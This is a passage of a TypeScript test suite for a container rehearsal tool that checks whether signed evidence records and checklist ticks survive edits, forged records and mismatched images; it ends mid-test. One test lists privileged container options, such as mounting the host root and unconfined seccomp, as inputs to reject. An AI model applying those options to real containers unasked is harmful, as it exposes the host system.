import {
  appendFile,
  chmod,
  cp,
  mkdir,
  mkdtemp,
  readFile,
  readdir,
  rename,
  rm,
  stat,
  symlink,
  utimes,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { renewChecklist } from '../../../src/commands/check/renew-checklist.ts';
import { openCheckTargets } from '../../../src/commands/check/open-check-targets.ts';
import { conductRehearsal } from '../../../src/commands/rehearsal/conduct-rehearsal.ts';
import { findOtherScripts } from '../../../src/commands/rehearsal/compare-start-script.ts';
import { findTriggers } from '../../../src/commands/rehearsal/find-triggers.ts';
import { labelOfBuild, readNamed } from '../../../src/commands/rehearsal/named-image.ts';
import { keepEvidence } from '../../../src/commands/rehearsal/keep-evidence.ts';
import { readRehearsedProject } from '../../../src/commands/rehearsal/read-rehearsed-project.ts';
import { digestOfEvidence } from '../../../src/commands/rehearsal/stand-of-evidence.ts';
import { readEvidence } from '../../../src/parse/records/read-evidence.ts';
import { readRehearsalFlags } from '../../../src/commands/rehearsal/read-rehearsal-flags.ts';
import { openTemplates } from '../../../src/io/package/templates.ts';
import { openProject } from '../../../src/io/project/project-files.ts';
import { markContext, openEvidenceSigner } from '../../../src/io/user-state/sign-evidence.ts';
import type { Environment, Invocation } from '../../../src/model/command.ts';
import type { RehearsalEvidence } from '../../../src/model/rehearsal/evidence.ts';
import { printEvidence } from '../../../src/report/check/evidence.ts';
import { parseGateReport } from '../../../src/parse/gate/gate-report.ts';
import { formatStateFile } from '../../../src/parse/records/state-file.ts';
import { readVariant } from '../../helpers/golden.ts';
import { fakeEngine, fakeImage, type Script } from '../fake-engine.ts';

const answers = await readVariant('python-minimal');
let root = '';
let state = '';
let variables: Record<string, string>;
beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'evidence-'));
  state = await mkdtemp(join(tmpdir(), 'state-'));
  variables = { XDG_STATE_HOME: state, USER: 'ada' };
  await cp('test/golden/python-minimal', root, { recursive: true });
  await writeAnswers({ ...answers });
});
afterEach(async () => {
  await rm(root, { recursive: true, force: true });
  await rm(state, { recursive: true, force: true });
});

const writeAnswers = async (given: Readonly<Record<string, unknown>>): Promise<void> =>
  writeFile(path('.yo-rc.json'), formatStateFile(undefined, { version: '1.2.3', answers: given }));

interface Run {
  readonly flags?: Invocation['flags'];
  readonly script?: Script;
  readonly image?: Partial<typeof fakeImage>;
  /** What the engine knows of the image that it is built from. */
  readonly base?: typeof fakeImage;
  /** What the image has of the project's files, by their places; absent: all of them as they are. */
  readonly holds?: (held: Map<string, string>) => ReadonlyMap<string, string> | undefined;
  /** An image that was not built in this run. */
  readonly named?: boolean;
  readonly at?: string;
}

async function rehearse({
  flags = {},
  script,
  image = {},
  named = false,
  holds,
  base,
  at = '2026-11-23T10:00:00Z',
}: Run = {}): Promise<readonly string[]> {
  const wishes = readRehearsalFlags({ targets: [], flags });
  const plain = await readRehearsedProject(openProject(root), wishes.built, here());
  const ran = { ...fakeImage, ...image };
  const { project, isMadeHere } = named
    ? await readNamed(plain, wishes, ran, { variables })
    : { project: plain, isMadeHere: false };
  const facts = project.builtSo?.facts ?? project.dockerfile?.facts;
  const { placed = [] } = (facts === undefined ? undefined : project.expect?.(facts, '')) ?? {};
  const held = new Map(placed.map(({ places, digest }) => [places.at(-1) ?? '', digest]));
  const engine = { ...fakeEngine(script), digestContents: async () => (holds === undefined ? held : holds(held)) };
  const evidence = await conductRehearsal(engine, {
    project,
    wishes,
    image: ran,
    version: '1.2.3',
    now: () => 0,
    today: () => at,
    tell: () => undefined,
    triggers: await findTriggers({ ...fakeEngine(script), inspectImage: async () => base }, project),
    otherScripts: await findOtherScripts(project, here()),
    ...(named ? { isMadeHere } : { builder: 'podman' }),
  });
  return (await keepEvidence(project, evidence, { variables })).notes;
}

/** The program as it is, in the project. */
function here(): Environment {
  return {
    terminal: { colour: false, columns: 80, err: () => undefined },
    cwd: root,
    version: '1.2.3',
    variables,
    openProject,
    now: () => Date.UTC(2026, 10, 26),
    git: async () => ({ user: 'Dr Governance', own: 'Ada Lovelace <ada@example.org>' }),
    templates: openTemplates(resolve('templates')),
    readFile: async () => new Uint8Array(),
  };
}

async function renew(acknowledge?: string): Promise<void> {
  const environment = here();
  for await (const target of openCheckTargets([root], environment)) {
    if ('what' in target) throw new Error(target.what);
    const { plan } = await renewChecklist(target, { results: [], waiverProblems: [] } as never, environment, {
      acknowledged: acknowledge,
    });
    await target.project.apply(plan);
  }
}

const path = (file: string): string => join(root, file);
const rows = async (): Promise<readonly string[]> => {
  const lines = (await readFile(path('CHECKLIST.md'), 'utf8')).split('\n');
  return [21, 24, 27, 29, 36].map((number) => lines.find((line) => line.includes(`<!-- question:${number} -->`)) ?? '');
};
/** Rows of the rehearsal's that are ticked, or of which it has shown a part. */
const ticked = async (): Promise<number> =>
  (await rows()).filter((row) => row.startsWith('- [x]') || row.includes('**Shown in part:**')).length;
const record = async (): Promise<RehearsalEvidence> => {
  const read = readEvidence(await readFile(path('rehearsal/evidence.json'), 'utf8'));
  if (read === undefined) throw new Error('no evidence');
  return read;
};
const forge = async (change: (evidence: Record<string, unknown>) => object): Promise<void> =>
  writeFile(path('rehearsal/evidence.json'), printEvidence(change({ ...(await record()) }) as RehearsalEvidence));

const failing: Script = () => ({
  state: async () => ({ running: false, exitCode: 1, seconds: 1, outOfMemory: false }),
});

test('an honest run of everything that is needed ticks what it proves', async () => {
  await rehearse();
  expect(await ticked()).toBe(5);
  // A row that says of itself what nobody looked at is left to a person.
  expect((await rows()).map((row) => /^- \[x\]|Shown in part/.exec(row)?.[0])).toEqual([
    '- [x]',
    'Shown in part',
    'Shown in part',
    'Shown in part',
    'Shown in part',
  ]);
  expect(parseGateReport(await readFile(path('rehearsal/evidence.json'), 'utf8'))).toMatchObject({
    kind: 'record',
    evidence: { verdict: 'pass' },
  });
  await renew();
  expect(await ticked()).toBe(5);
});

test('and still does where the answers stand in another order, and a version beside them', async () => {
  await rehearse();
  const turned = Object.fromEntries(Object.entries(answers).toReversed());
  await writeFile(path('.yo-rc.json'), formatStateFile(undefined, { version: '1.2.4', answers: turned }));
  await renew();
  expect(await ticked()).toBe(5);
});

test('and still does where the builder was told how to go about it', async () => {
  await rehearse({ flags: { 'build-option': ['--no-cache', '--network', 'host'] } });
  expect(await ticked()).toBe(5);
});

test('a variable that whoever starts it gives is nobody’s here', async () => {
  await appendFile(path('ces/env-file.txt'), 'http_proxy\n');
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain('ces/env-file.txt takes http_proxy from whoever starts');
  expect(await ticked()).toBe(0);
});

test('what the settings of this machine give every container is named, and proves nothing', async () => {
  await rehearse({ script: () => ({ given: async () => ['/models', 'MODEL_DIR'] }) });
  expect((await rows())[1]).toContain('the engine of this machine gives every container /models, MODEL_DIR');
  expect(await ticked()).toBe(0);
});

test('a batch job that opens none of its data has shown nothing of what it does with them', async () => {
  await rehearse({ script: () => ({ dataRead: async () => [] }) });
  for (const row of await rows()) expect(row).toMatch(/^- \[ \].*no run opened a file of rehearsal\/safe_data/);
  expect(await ticked()).toBe(0);
  // One run of them is enough: not each has the same arguments.
  let runs = 0;
  await rehearse({ script: () => ({ dataRead: async () => ((runs += 1) === 1 ? ['/safe_data/a.csv'] : []) }) });
  expect(await ticked()).toBe(5);
  expect((await rows())[3]).toContain('it opened /safe_data/a.csv');
});

test('where nobody could see what it read, nothing is ticked', async () => {
  await rehearse({ script: () => ({ dataRead: async () => undefined }) });
  const said = await rows();
  expect(said.filter((row) => row.startsWith('- [x]'))).toEqual([]);
  expect(said[1]).toContain('whether it read anything of /safe_data could not be seen here');
});

test('a batch job that had no data shows a part, since nobody saw what it does with data', async () => {
  await rm(path('rehearsal/safe_data'), { recursive: true });
  await rehearse({ script: () => ({ dataRead: async () => undefined }) });
  for (const row of await rows())
    expect(row).toMatch(/^- \[ \].*Shown in part.*what it does with data was not seen: put synthetic data there/);
  await renew();
  expect((await rows()).filter((row) => row.startsWith('- [x]'))).toEqual([]);
});

test.each([
  ['the answers', async () => writeAnswers({ ...answers, gpu: true }), 'gpu of .yo-rc.json asks'],
  [
    'a base for one',
    async () => {
      const text = await readFile(path('Dockerfile'), 'utf8');
      await writeFile(path('Dockerfile'), text.replace(/^FROM .*/m, 'FROM docker.io/nvidia/cuda:12.6.0-base'));
    },
    'the base in Dockerfile asks',
  ],
  ['an option of podman', async () => appendFile(path('ces/opt-file.txt'), '--device nvidia.com/gpu=all\n'), 'ces/opt'],
  ['an option of apptainer', async () => appendFile(path('ces/opt-file-apptainer.txt'), '--nv\n'), 'ces/opt'],
  [
    'the same job with a card',
    async () => {
      const job = await readFile(path('ces/job.yaml'), 'utf8');
      await writeFile(path('ces/job-gpu.yaml'), job.replaceAll('cpu: 4', 'cpu: 4\n              nvidia.com/gpu: "1"'));
    },
    'ces/job-gpu.yaml asks',
  ],
])('a card that no run was given leaves every row to a person: %s', async (_, how, named) => {
  await how();
  await rehearse({ base: fakeImage });
  // Of other answers ces/run.sh is another one too, which two of the rows say first.
  for (const row of (await rows()).slice(1, 4)) {
    expect(row).toMatch(/^- \[ \].*Shown in part.*no run was given a graphics card, for which/);
    expect(row).toContain(named);
  }
});

test('a job that names no card, or none of them, needs none', async () => {
  const job = await readFile(path('ces/job.yaml'), 'utf8');
  await writeFile(
    path('ces/job-b.yaml'),
    `# nvidia.com/gpu: 1\n${job.replaceAll('cpu: 4', 'cpu: 4\n              nvidia.com/gpu: 0')}`,
  );
  await rehearse();
  expect((await record()).askedCards).toBeUndefined();
  expect((await rows())[0]).toMatch(/^- \[x\]/);
});

test('a row names the image that was run, and says where FROM fixes none', async () => {
  await rehearse();
  expect((await rows())[1]).toContain(`image sha256:${'1'.repeat(12)}`);
  expect((await rows())[1]).not.toContain('FROM names no digest');
  const text = await readFile(path('Dockerfile'), 'utf8');
  await writeFile(path('Dockerfile'), text.replace(/@sha256:[0-9a-f]{64}/, ''));
  await rehearse();
  for (const row of await rows()) expect(row).toContain('FROM names no digest');
});

test('a port that nothing here can ask is not taken for locked, whatever else was seen', async () => {
  await rehearse({ image: { otherPorts: ['5353/udp'] } });
  const [, , server] = await rows();
  expect(server).toMatch(/^- \[ \].*EXPOSE names 5353\/udp, and nothing here asks but by TCP/);
  expect(await ticked()).toBe(4);
});

test('and still does in a clone that another umask made', async () => {
  await rehearse();
  for (const file of ['src/main.py', 'Dockerfile', 'ces/run.sh']) {
    const { mode } = await stat(path(file));
    await chmod(path(file), (mode & 0o777) ^ 0o020);
  }
  await renew();
  expect(await ticked()).toBe(5);
});

describe('ticks nothing', () => {
  const after: readonly (readonly [what: string, how: () => Promise<unknown>])[] = [
    ['an edit of the program', async () => appendFile(path('src/main.py'), '# more\n')],
    ['an edit of the packages', async () => appendFile(path('requirements.txt'), 'six==1.17.0\n')],
    ['an edit of the Dockerfile', async () => appendFile(path('Dockerfile'), 'LABEL a=b\n')],
    ['an edit of the start script', async () => appendFile(path('ces/run.sh'), '# x\n')],
    ['an edit of the arguments', async () => appendFile(path('ces/arg-file.txt'), '--fast\n')],
    ['an edit of the options', async () => appendFile(path('ces/opt-file.txt'), '--shm-size=1g\n')],
    ['an edit of the variables', async () => appendFile(path('ces/env-file.txt'), 'A=1\n')],
    ['an edit of the synthetic input', async () => appendFile(path('rehearsal/safe_data/measurements.csv'), '1,2\n')],
    ['a program that became executable', async () => chmod(path('src/main.py'), 0o755)],
    ['a program that not everybody may read', async () => chmod(path('src/main.py'), 0o600)],
    ['a program that all may write', async () => chmod(path('src/main.py'), 0o666)],
    ['a program that sets a user', async () => chmod(path('src/main.py'), 0o4755)],
    ['a folder that not everybody may enter', async () => chmod(path('src'), 0o700)],
    ['an empty folder beside the program', async () => mkdir(path('src/flag'))],
    ['a base of another name', async () => writeAnswers({ ...answers, base: 'rstudio' })],
    ['answers that are gone', async () => rm(path('.yo-rc.json'))],
    ['another ignore file', async () => writeFile(path('.dockerignore'), '*\n')],
    [
      'another version of the program',
      async () => forge((evidence) => ({ ...evidence, tool: { name: 'x', version: '9' } })),
    ],
    [
      'a verdict written by hand',
      async () => forge((evidence) => ({ ...evidence, verdict: 'pass', date: '2031-01-01T00:00:00Z' })),
    ],
    [
      'an image id of zeros',
      async () =>
        forge((evidence) => ({
          ...evidence,
          image: { ...(evidence['image'] as object), id: `sha256:${'0'.repeat(64)}` },
        })),
    ],
    ['a signature that was taken away', async () => forge(({ signature: _signature, ...evidence }) => evidence)],
    ['a signature of zeros', async () => forge((evidence) => ({ ...evidence, signature: '0'.repeat(64) }))],
    [
      'inputs brought up to date by hand',
      async () => {
        await appendFile(path('src/main.py'), '# more\n');
        const { inputs } = await readRehearsedProject(openProject(root), undefined, here());
        await forge((evidence) => ({ ...evidence, inputs }));
      },
    ],
    [
      'a record of 0.1.0',
      async () => forge(({ form: _form, inputs: _inputs, scope: _scope, signature: _signature, ...old }) => old),
    ],
    ['a key that is lost', async () => rm(state, { recursive: true })],
    ['no record at all, as a checklist comes that somebody forged', async () => rm(path('rehearsal/evidence.json'))],
    ['a record that is no record', async () => writeFile(path('rehearsal/evidence.json'), '{"verdict":"pass"}')],
  ];
  test.each(after)('%s', async (_, how) => {
    await rehearse();
    await how();
    await renew();
    expect(await ticked()).toBe(0);
  });

  test.each([
    '--network=host',
    '--privileged',
    '--volume=/:/host',
    '--mount type=bind,source=/,destination=/host',
    '--env-file=/nonexistent',
    '--memory=6m',
    '--timeout=1',
    '--pids-limit 1',
    '--user=4321',
    '--platform=linux/arm64',
    '--cap-add=ALL',
    '--security-opt=seccomp=unconfined',
  ])('a project whose opt-file asks for %s', async (option) => {
    await appendFile(path('ces/opt-file.txt'), `${option}\n`);
    await rehearse();
    expect(await ticked()).toBe(0);
    expect((await record()).overrides).toEqual([`the opt-files ask for ${option}`]);
  });

  const runs: readonly (readonly [what: string, run: Run])[] = [
    ['a program that fails in every run', { script: failing }],
    ['a base that takes files by ONBUILD', { base: { ...fakeImage, onBuild: ['COPY other.py /app/'] } }],
    ['a run of single cells', { flags: { cell: ['root:read-only'] } }],
    ['a run with a variable of its own', { flags: { env: ['A=1'] } }],
    ['a run on other data than the record names', { flags: { data: '/elsewhere' } }],
    ['a build of another stage', { flags: { 'build-option': ['--target=dev'] } }],
    ['a build with a value of its own', { flags: { 'build-option': ['--build-arg', 'A=1'] } }],
    ['a run with arguments of its own', { flags: { argument: ['--fast'] } }],
    ['an image of somebody else', { named: true, image: { reference: 'other:good' } }],
    [
      'an image whose label is of other files',
      { named: true, image: { labels: { 'org.tre-container.context': 'f'.repeat(64) } } },
    ],
  ];
  test.each(runs)('%s', async (_, run) => {
    await rehearse(run);
    expect(await ticked()).toBe(0);
    await renew();
    expect(await ticked()).toBe(0);
  });
});

test('answers that asked for fewer runs than those of today', async () => {
  await writeAnswers({ ...answers, runtimes: ['podman'] });
  await rehearse();
  expect(await ticked()).toBeGreaterThan(0);
  await writeAnswers({ ...answers, runtimes: ['podman', 'apptainer', 'kubernetes'] });
  await renew();
  expect(await ticked()).toBe(0);
  for (const row of await rows()) expect(row).toContain('.yo-rc.json has changed since');
});

test('what an image of nobody known watched proves no silence of the network', async () => {
  await rehearse({ script: ({ network }) => (network === 'none' ? {} : { network: () => 'image' }) });
  expect(await ticked()).toBe(4);
  const checklist = await readFile(path('CHECKLIST.md'), 'utf8');
  expect(checklist).toContain(
    'the network was watched by a program of the image itself, or of another that nobody vouches for, in ',
  );
});

test('a program that changes the safe data where it may proves no row about writing', async () => {
  await rehearse({
    script: ({ data }) => (data === 'read-write' ? { changedData: async () => ['/safe_data/log'] } : {}),
  });
  const row = (await readFile(path('CHECKLIST.md'), 'utf8')).split('\n').find((line) => line.includes('question:29 '));
  expect(row).toMatch(/^- \[ \].*it changes the safe data when it may: \/safe_data\/log/);
  expect(await ticked()).toBe(4);
});

test('what stays in the home directory under apptainer proves no row about writing', async () => {
  await rehearse({
    script: ({ hostFolders }) =>
      hostFolders.length > 0 ? { leftOnHost: async () => ['/home/tre-user/.config/tool'] } : {},
  });
  const [, , , writes] = await rows();
  expect(writes).toMatch(/^- \[ \].*it leaves files on the host: \/home\/tre-user\/.config\/tool/);
  expect(await ticked()).toBe(4);
});

/** What the shell that starts it as apptainer does says at its end. */
const saying =
  (names: string): Script =>
  ({ entrypoint, arguments: [, , mark = ''] }) =>
    entrypoint === 'sh' ? { log: async () => `done\n\n${mark}:${names}.\n` } : {};

test('a program that leaves something running proves nothing, since nobody saw what that does', async () => {
  await rehearse({ script: saying('') });
  expect(await ticked()).toBe(5);
  for (const row of await rows()) expect(row).not.toContain('leaves running');
  await rehearse({ script: saying(' python3 python3') });
  expect(await ticked()).toBe(0);
  const [user, , , , command] = await rows();
  expect(user).toContain('it left python3 running when it ended');
  expect(command).toContain('it ended and left running what it had started: python3');
});

test('a start script that goes on where its programs fail proves nothing of them', async () => {
  await rehearse({ script: () => ({ log: async () => '/app/run.sh: line 3: model: command not found\n' }) });
  expect(await ticked()).toBe(0);
  const [user, , , , command] = await rows();
  expect(user).toContain('something within it failed (a shell could not run a command)');
  expect(command).toContain('it ended with exit code 0, and something within it failed');
});

test('where nothing looked for what is left running, rows about network and writing say so', async () => {
  await rehearse();
  const [user, network, , writes] = await rows();
  for (const row of [network, writes])
    expect(row).toContain('what it leaves running under apptainer when it ends was not looked at');
  expect(user).not.toContain('leaves running');
});

test.each([
  ['all of it', {}],
  ['of a single cell', { cell: ['root:read-only'] }],
])('a record that passed, put back after a later run of the same files that failed: %s', async (_, flags) => {
  await rehearse();
  const passed = await readFile(path('rehearsal/evidence.json'), 'utf8');
  await rehearse({ script: failing, flags, at: '2026-11-24T10:00:00Z' });
  expect(await ticked()).toBe(0);
  // One cell that passes says nothing of those that failed.
  await rehearse({ flags: { cell: ['high-uid:read-only'] }, at: '2026-11-24T11:00:00Z' });
  await writeFile(path('rehearsal/evidence.json'), passed);
  await renew();
  expect(await ticked()).toBe(0);
  expect((await rows())[0]).toContain('the same files were rehearsed again on 2026-11-24, and failed');
  // Once so and once so is a chance of the day.
  for (const hour of ['10', '11']) {
    const notes = await rehearse({ at: `2026-11-25T${hour}:00:00Z` });
    expect(await ticked()).toBe(0);
    expect(JSON.stringify(notes)).toContain('the same files failed when they were rehearsed on 2026-11-24');
  }
  await rehearse({ at: '2026-11-25T12:00:00Z' });
  expect(await ticked()).toBe(5);
});

test('a run that failed and cannot be remembered leaves no record that counts', async () => {
  await rehearse();
  const passed = await readFile(path('rehearsal/evidence.json'), 'utf8');
  expect(await ticked()).toBe(5);
  const runs = join(state, 'generator-tre-container', 'runs');
  await rename(runs, `${runs}.kept`);
  await writeFile(runs, '');
  const notes = await rehearse({ script: failing, at: '2026-11-24T10:00:00Z' });
  expect(JSON.stringify(notes)).toContain('That this run failed cannot be remembered on this machine, since ');
  await writeFile(path('rehearsal/evidence.json'), passed);
  await renew();
  expect(await ticked()).toBe(0);
  expect((await rows())[0]).toContain('cannot be remembered on this machine');
  // What is forgotten may have failed.
  await rm(runs);
  await renew();
  expect(await ticked()).toBe(0);
  expect((await rows())[0]).toContain('this machine does not remember how the last run of these files went');
});

test.each(['2026-11-20T10:00:00Z', '2099-01-01T10:00:00Z'])(
  'no clock makes a run that failed unseen: at %s',
  async (at) => {
    await rehearse();
    const passed = await readFile(path('rehearsal/evidence.json'), 'utf8');
    await rehearse({ script: failing, at });
    const runs = join(state, 'generator-tre-container', 'runs');
    for (const name of await readdir(runs)) await utimes(join(runs, name), 0, 0);
    await rehearse({ flags: { cell: ['high-uid:read-only'] }, script: failing, at });
    await writeFile(path('rehearsal/evidence.json'), passed);
    await renew();
    expect(await ticked()).toBe(0);
  },
);

test('a run that was given something else and failed says nothing of the files', async () => {
  await rehearse();
  await rehearse({ script: failing, flags: { env: ['A=1'] }, at: '2026-11-24T10:00:00Z' });
  await renew();
  expect(await ticked()).toBe(5);
});

test('a run with other data that failed takes the ticks, until one passes', async () => {
  await mkdir(path('other'));
  const flags = { data: path('other') };
  await rehearse();
  await rehearse({ script: failing, flags, at: '2026-11-22T10:00:00Z' });
  expect(await ticked()).toBe(0);
  await rehearse({ at: '2026-11-24T10:00:00Z' });
  expect(await ticked()).toBe(0);
  expect((await rows())[1]).toContain('rehearsed with other data (--data) on 2026-11-22, and failed');
  await rehearse({ flags, at: '2026-11-25T10:00:00Z' });
  await renew();
  expect(await ticked()).toBe(5);
});

test('files that somebody writes into while they are rehearsed', async () => {
  const notes = await rehearse({
    script: () => ({
      log: async () => {
        await appendFile(path('src/main.py'), '# more\n');
        return '';
      },
    }),
  });
  expect(notes).toEqual(['The record counts no longer: src/main.py has changed since. Rehearse again']);
  expect(await ticked()).toBe(0);
});

type Held = NonNullable<Run['holds']>;
const evil: Held = (held) => new Map(held).set('/app/main.py', 'f'.repeat(64));

test.each<readonly [string, Held, string]>([
  ['other bytes', evil, 'the image has other bytes than the project, or nothing, for src/main.py (/app/main.py)'],
  ['a file less', (held) => new Map([...held].slice(1)), 'the image has other bytes than the project, or nothing'],
  ['a file more', (held) => new Map(held).set('/app/csv.py', 'f'), 'the image has files beside those of the project'],
  ['what cannot be read', () => undefined, 'could not be compared with it, byte for byte'],
])('an image with our own label and %s', async (_, holds, words) => {
  const { inputs } = await readRehearsedProject(openProject(root), undefined, here());
  const digest = inputs.context ?? '';
  const label = markContext(openEvidenceSigner(variables, root), { digest, words: [] });
  await rehearse({ named: true, image: labelled(label), holds });
  expect((await record()).overrides).toEqual([]);
  expect(await ticked()).toBe(0);
  for (const row of await rows()) expect(row).toContain(words);
  await rehearse({ named: true, image: labelled(label), at: '2026-11-24T10:00:00Z' });
  expect(await ticked()).toBe(5);
});

test('a build that changes what it copied: no row is ticked for the whole', async () => {
  await rehearse({ holds: evil });
  for (const row of await rows()) {
    expect(row).toMatch(/^- \[ \]/);
    expect(row).toContain('the build changed src/main.py (/app/main.py), so that what ran is not what the project has');
  }
  await rehearse({ holds: () => undefined, at: '2026-11-24T10:00:00Z' });
  expect(await ticked()).toBe(0);
});

const labelled = (label: string): object => ({ labels: { 'org.tre-container.context': label } });

test('an image that was built from these files counts where this machine said so, and not where its maker did', async () => {
  const { context = '' } = (await readRehearsedProject(openProject(root), undefined, here())).inputs;
  const label = markContext(openEvidenceSigner(variables, root), { digest: context, words: [] });
  for (const other of [
    context,
    `${context}.${'0'.repeat(64)}`,
    `${label}0`,
    label.replace(/^./, 'g'),
    `${label}.x`.slice(1),
  ]) {
    await rehearse({ named: true, image: labelled(other) });
    expect(await ticked()).toBe(0);
  }
  await rehearse({ named: true, image: { ...labelled(label), environment: ['HOME=/root'] } });
  expect((await rows())[1]).toContain('HOME of ENV is another one');
  expect(await ticked()).toBe(0);
  await rehearse({ named: true, image: { ...labelled(label), builtWith: ['|1 A=1 /bin/sh -c true'] } });
  expect(await ticked()).toBe(5);
  await appendFile(path('src/main.py'), '# more\n');
  await rehearse({ named: true, image: labelled(label) });
  await renew();
  expect(await ticked()).toBe(0);
});

test('a run that proves less takes the place of no fuller record', async () => {
  await rehearse();
  const before = await readFile(path('rehearsal/evidence.json'), 'utf8');
  expect(await rehearse({ flags: { cell: ['root:read-only'] } })).toEqual([
    'rehearsal/evidence.json stays as it is: this run proves less than the one of 2026-11-23 that it records',
  ]);
  expect(await readFile(path('rehearsal/evidence.json'), 'utf8')).toBe(before);
  expect(await ticked()).toBe(5);
});

test('a run that proves less, of other files, leaves no tick of the former ones, and their record', async () => {
  await rehearse();
  const before = await readFile(path('rehearsal/evidence.json'), 'utf8');
  await appendFile(path('src/main.py'), '# more\n');
  await rehearse({ flags: { env: ['A=1'] } });
  expect(await ticked()).toBe(0);
  expect(await rehearse({ named: true, image: labelled('') })).toContain(
    'rehearsal/evidence.json stays as it is: this run proves less than the one of 2026-11-23 that it records',
  );
  expect(await readFile(path('rehearsal/evidence.json'), 'utf8')).toBe(before);
  expect((await rows())[1]).toContain('src/main.py has changed since');
});

test('a run that proves less leaves no tick of a record that is another user’s', async () => {
  await rehearse();
  await rm(state, { recursive: true });
  await rehearse({ flags: { env: ['A=1'] } });
  expect(await ticked()).toBe(0);
});

test('what the checklist and the record say of themselves does not make them stale', async () => {
  await rehearse();
  await appendFile(path('CHECKLIST.md'), '\nOur own words.\n');
  await renew();
  expect(await ticked()).toBe(5);
});

test('a second job that starts something else leaves every row open', async () => {
  const job = await readFile(path('ces/job.yaml'), 'utf8');
  // The same on a larger node.
  await writeFile(path('ces/job-large.yaml'), job.replaceAll('cpu: 4', 'cpu: 8').replace('value: "4"', 'value: "8"'));
  await rehearse();
  expect((await rows()).every((row) => !row.includes('job-large'))).toBe(true);
  await writeFile(path('ces/job-gpu.yaml'), job.replace('- measurements.csv', '- /app/gpu.py'));
  await rehearse();
  expect((await record()).otherJobs).toEqual(['ces/job-gpu.yaml']);
  for (const row of await rows()) {
    expect(row).toMatch(/^- \[ \]/);
    expect(row).toContain('what ces/job-gpu.yaml starts, which is not what ces/job.yaml does, was not rehearsed');
  }
});

test.each([
  ['a second Dockerfile', { 'Dockerfile.gpu': 'FROM scratch\n' }, 'Dockerfile.gpu'],
  ['a Dockerfile in a folder', { 'web/Containerfile': 'FROM scratch\n' }, 'web/Containerfile'],
  [
    'what a compose file builds from a file of another name',
    {
      'compose.yaml': 'services:\n  a:\n    build: .\n  b:\n    build: {context: ., dockerfile: web.build}\n',
      'web.build': 'FROM scratch\n',
    },
    'web.build',
  ],
])('a project of several images, of which one was run: %s', async (_, files, other) => {
  await rehearse();
  expect(await ticked()).toBe(5);
  for (const [name, text] of Object.entries(files)) {
    await mkdir(dirname(path(name)), { recursive: true });
    await writeFile(path(name), text);
  }
  // It came after the record: that is no longer of the whole.
  await renew();
  expect((await rows()).every((row) => row.startsWith('- [ ]') && row.includes('**Stale:**'))).toBe(true);
  await rehearse();
  expect((await record()).otherImages).toEqual([other]);
  for (const row of await rows()) {
    expect(row).toMatch(/^- \[ \]/);
    expect(row).toContain(`this is of the image of Dockerfile alone: ${other} was not rehearsed`);
  }
  await renew();
  expect((await rows()).some((row) => row.startsWith('- [x]'))).toBe(false);
});

test('a project in a folder of the project has a record of its own', async () => {
  await mkdir(path('inner'));
  await writeFile(path('inner/Dockerfile'), 'FROM scratch\n');
  await writeFile(path('inner/.yo-rc.json'), await readFile(path('.yo-rc.json')));
  await rehearse();
  expect((await record()).otherImages).toBeUndefined();
  expect((await rows()).some((row) => row.startsWith('- [x]'))).toBe(true);
});

const workflow = (lines: readonly string[]): string =>
  `on: push\nenv:\n  IMAGE: ghcr.io/me/pr\njobs:\n  other:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v5\n      - run: |\n${lines.map((line) => `          ${line}\n`).join('')}  image:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v5\n      - run: |\n          docker build -t "$IMAGE:$GITHUB_SHA" .\n          docker push "$IMAGE:$GITHUB_SHA"\n`;

test.each([
  ['of a project in it', 'inner'],
  ['of a packed library', 'node_modules/x'],
])('an image under the name of the own one, from a folder %s', async (_, folder) => {
  await mkdir(path(folder), { recursive: true });
  await writeFile(path(`${folder}/Dockerfile`), 'FROM scratch\n');
  await writeFile(path(`${folder}/.yo-rc.json`), await readFile(path('.yo-rc.json')));
  await mkdir(path('.github/workflows'), { recursive: true });
  const write = async (name: string): Promise<void> =>
    writeFile(
      path('.github/workflows/c.yml'),
      workflow([`docker build -t "${name}" ${folder}`, `docker push "${name}"`]),
    );
  await write('ghcr.io/me/another:1');
  await rehearse();
  expect((await record()).otherImages).toBeUndefined();
  await write('$IMAGE:1');
  await rehearse();
  expect((await record()).otherImages).toEqual([`${folder}/Dockerfile`]);
  expect((await rows()).every((row) => row.startsWith('- [ ]'))).toBe(true);
});

test.each([
  ['Jenkinsfile', 'Jenkins'],
  ['.woodpecker/x.yml', 'Woodpecker'],
  ['.forgejo/workflows/x.yml', 'Forgejo'],
  ['Earthfile', 'Earthly'],
])('a pipeline that is not read, and may push: %s', async (name, system) => {
  await mkdir(dirname(path(name)), { recursive: true });
  await writeFile(path(name), 'steps:\n  - pytest\n');
  await rehearse();
  const before = await ticked();
  expect(before > 0).toBe(name !== 'Earthfile');
  await writeFile(path(name), 'cp docs/x src/main.py; docker build -t x .; docker push x\n');
  await rehearse();
  expect(await ticked()).toBe(0);
  expect((await rows()).join('\n')).toContain(`is a pipeline of ${system}, which is not read`);
});

test('a job of the cluster that gives the program what no rehearsal can', async () => {
  const text = await readFile(path('ces/job.yaml'), 'utf8');
  await writeFile(path('ces/job.yaml'), text.replace('mountPath: /dev/shm', 'mountPath: /app'));
  await rehearse();
  expect((await record()).overrides?.join('; ')).toContain('mounts something at /app');
  expect(await ticked()).toBe(0);
});

test.each([
  ['what pack writes', 'COPY handover/main.sh /app/start.sh', 'handover/main.sh', 'handover'],
  ['what lies beside our own state', 'COPY .tre-container/x.sh /app/', '.tre-container/x.sh', '.tre-container'],
  ['the checklist', 'COPY CHECKLIST.md /app/run.sh', 'CHECKLIST.md', 'CHECKLIST.md'],
  ['the record', 'COPY rehearsal/ /app/', 'rehearsal/x.sh', 'rehearsal/evidence.json'],
  ['everything', 'COPY . /app/', 'x.sh', 'CHECKLIST.md, rehearsal/evidence.json'],
  ['a link to what pack writes', 'COPY d1/x /app/', 'handover/run.sh', 'handover'],
  [
    'a mount, which podman gives whatever is ignored',
    'RUN --mount=type=bind,target=/c cp /c/x /',
    'x',
    'CHECKLIST.md, rehearsal/evidence.json',
  ],
])('an image proves nothing that holds what this program writes: %s', async (_, line, file, named) => {
  await mkdir(path('d1'));
  await symlink('../handover/run.sh', path('d1/x'));
  await mkdir(path(dirname(file)), { recursive: true });
